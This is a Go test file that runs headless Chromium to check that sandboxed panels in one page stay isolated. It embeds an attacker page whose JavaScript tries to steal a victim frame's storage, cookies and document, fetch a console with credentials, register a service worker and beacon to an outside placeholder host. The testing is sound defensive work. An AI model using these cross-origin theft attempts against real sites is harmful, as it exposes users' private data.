package caddymodule_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cubeplexai/cubepod/internal/session"
	"github.com/cubeplexai/cubepod/internal/testutil"
)

// victimPage keeps secrets in all places that a page has.
const victimPage = `<!doctype html><title>victim</title><p id=secret>SECRET</p><script>
const attempts = [
	() => { localStorage.setItem("k", "SECRET") },
	() => { sessionStorage.setItem("k", "SECRET") },
	() => { document.cookie = "k=SECRET; path=/" },
	() => { indexedDB.open("SECRET") },
	() => caches.open("SECRET").catch(() => {}),
	() => { const c = new BroadcastChannel("b"); setInterval(() => c.postMessage("SECRET"), 20) },
];
for (const a of attempts) try { a() } catch {}
window.name = "SECRET";
</script>`

// attackPage tries from another sandbox to get at them, and at the console.
// What it got it tells its own server: "nothing" is the only good answer.
const attackPage = `<!doctype html><title>attacker</title><script type="module">
const victim = parent.frames[0], out = {};
const attempt = async (name, f) => {
	try { const got = await f(); out[name] = got ? String(got).slice(0, 200) : "nothing" } catch (e) { out[name] = "nothing" }
};
const within = (ms, p) => Promise.race([p, new Promise(r => setTimeout(r, ms))]);
await attempt("frame's document", () => victim.document.body.innerText);
await attempt("frame's address", () => victim.location.href);
await attempt("frame's name", () => victim.name);
await attempt("frame's storage", () => victim.localStorage.k);
await attempt("frame's fetch", () => victim.fetch("."));
await attempt("parent's document", () => parent.document.body.innerHTML);
await attempt("top's address", () => top.location.href);
await attempt("localStorage", () => localStorage.k);
await attempt("sessionStorage", () => sessionStorage.k);
await attempt("cookie", () => document.cookie.includes("SECRET") && document.cookie);
await attempt("indexedDB", async () => (await indexedDB.databases()).filter(d => d.name == "SECRET").length);
await attempt("caches", async () => (await caches.keys()).includes("SECRET"));
await attempt("broadcast", () => within(400, new Promise(r => { new BroadcastChannel("b").onmessage = e => r(e.data) })));
await attempt("the origin's root", async () => { const r = await fetch("/", {credentials: "include"}); return r.ok && await r.text() });
await attempt("the console", async () => (await fetch("CONSOLE", {credentials: "include"})).text());
await attempt("the console, blind", async () => { const r = await fetch("CONSOLE", {mode: "no-cors", credentials: "include"}); return r.type != "opaque" && r.status });
await attempt("a frame of the console", () => new Promise((ok, no) => { const f = document.createElement("iframe"); f.src = "CONSOLE"; f.onload = () => { try { ok(f.contentWindow.document.body.innerText) } catch (e) { no(e) } }; document.body.append(f) }));
await attempt("a worker for the whole origin", async () => { const r = await navigator.serviceWorker.register("sw.js", {scope: "/"}); return r.scope });
await attempt("going on top", () => { top.location = "about:blank#gone" });
document.body.append(Object.assign(new Image(), {src: "OUTSIDE/pixel"}));
await within(2000, fetch("OUTSIDE/fetched", {mode: "no-cors"})).catch(() => {});
await fetch("report", {method: "POST", body: JSON.stringify(out)});
</script>`

// openedPage is the attacker's, too, in a window that the page around the panels
// opened, as a console does for "open in a new tab".
const openedPage = `<!doctype html><title>opened</title><script type="module">
const out = {"there is an opener": window.opener ? "nothing" : "no"};
const attempt = async (name, f) => {
	try { const got = await f(); out[name] = got ? String(got).slice(0, 200) : "nothing" } catch (e) { out[name] = "nothing" }
};
await attempt("opener's document", () => opener.document.body.innerHTML);
await attempt("opener's address", () => opener.location.href);
await attempt("opener's storage", () => opener.localStorage.k);
await attempt("opener's fetch", () => opener.fetch("."));
await attempt("opener's frame's document", () => opener.frames[0].document.body.innerText);
await attempt("opener's frame's address", () => opener.frames[0].location.href);
await fetch("report", {method: "POST", body: JSON.stringify(out)});
</script>`

// TestPanelsAreApart opens two sandboxes' panels in one page, as the console
// does, and has one attack the other.
func TestPanelsAreApart(t *testing.T) {
	chromium := testutil.NeedProgram(t, "chromium")
	for mode, opts := range map[string]edgeOptions{
		"path":     {},
		"own host": {host: "*.panels.localhost", site: ownHosts},
	} {
		t.Run(mode, func(t *testing.T) {
			console := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "SECRET") }))
			defer console.Close()
			var mu sync.Mutex // guards the field below
			var referers []string
			frames := make(chan [2]string, 1)
			outside := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path != "/" {
					mu.Lock()
					referers = append(referers, r.Referer())
					mu.Unlock()
					return
				}
				f := <-frames
				w.Header().Set("Content-Type", "text/html")
				fmt.Fprintf(w, `<!doctype html><p>OUTER SECRET</p><iframe src="%[1]s" onload="this.onload=null;const f=document.createElement('iframe');f.src='%[2]s/attack';document.body.append(f);window.open('%[2]s/opened')"></iframe>`, f[0], f[1])
			}))
			defer outside.Close()
			report := make(chan map[string]string, 2)
			attacker := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				switch r.URL.Path {
				case "/attack":
					w.Header().Set("Content-Type", "text/html")
					io.WriteString(w, strings.NewReplacer("CONSOLE", console.URL, "OUTSIDE", outside.URL).Replace(attackPage))
				case "/opened":
					w.Header().Set("Content-Type", "text/html")
					io.WriteString(w, openedPage)
				case "/sw.js":
					w.Header().Set("Content-Type", "text/javascript")
					w.Header().Set("Service-Worker-Allowed", "/")
				case "/report":
					got := map[string]string{}
					if err := json.NewDecoder(r.Body).Decode(&got); err == nil {
						report <- got
					}
				default:
					http.NotFound(w, r)
				}
			})
			e := startEdge(t, attacker, opts)
			e.podd.listen(4000, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "text/html")
				io.WriteString(w, victimPage)
			}))
			other := *e.rec
			other.ID, other.Ports = session.NewID(), map[int]session.Port{4000: {}}
			e.podd.serve(&other)
			e.write(&other)
			c := e.claims(4000)
			c.Sandbox = string(other.ID)
			base := func(id session.ID) string {
				if mode == "path" {
					return e.url
				}
				return fmt.Sprintf("http://%s.panels.localhost:%d", id, e.port)
			}
			attackURL := base(e.rec.ID) + strings.TrimPrefix(e.panel(3000), e.url)
			victimToken := e.token(c)
			frames <- [2]string{base(other.ID) + "/panel/" + victimToken + "/victim", attackURL}

			ctx, cancel := context.WithCancel(context.Background())
			browser := exec.CommandContext(ctx, chromium, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
				"--disable-component-update", "--disable-popup-blocking", "--user-data-dir="+e.dir+"/profile", "--remote-debugging-port=0", outside.URL+"/")
			if err := browser.Start(); err != nil {
				t.Fatal(err)
			}
			defer browser.Wait() // its exit status is the signal's
			defer cancel()
			got := map[string]string{}
			for range 2 {
				select {
				case part := <-report:
					maps.Copy(got, part)
				case <-time.After(testutil.Patience):
					t.Fatalf("one of the attacker's pages reports nothing; the other: %v", got)
				}
			}
			if len(got) < 26 {
				t.Errorf("only %d attempts: this proves nothing", len(got))
			}
			for name, v := range got {
				switch {
				case name == "a worker for the whole origin" && mode == "own host" && v == base(e.rec.ID)+"/":
					// It is the sandbox's own origin, all of it.
				case v != "nothing":
					t.Errorf("%s: got %q", name, v)
				}
			}
			mu.Lock()
			defer mu.Unlock()
			if len(referers) == 0 {
				t.Error("nothing was asked for outside: this proves nothing")
			}
			for _, r := range referers {
				if strings.Contains(r, "/panel/") {
					t.Errorf("a referrer tells the link: %s", r)
				}
			}
		})
	}
}
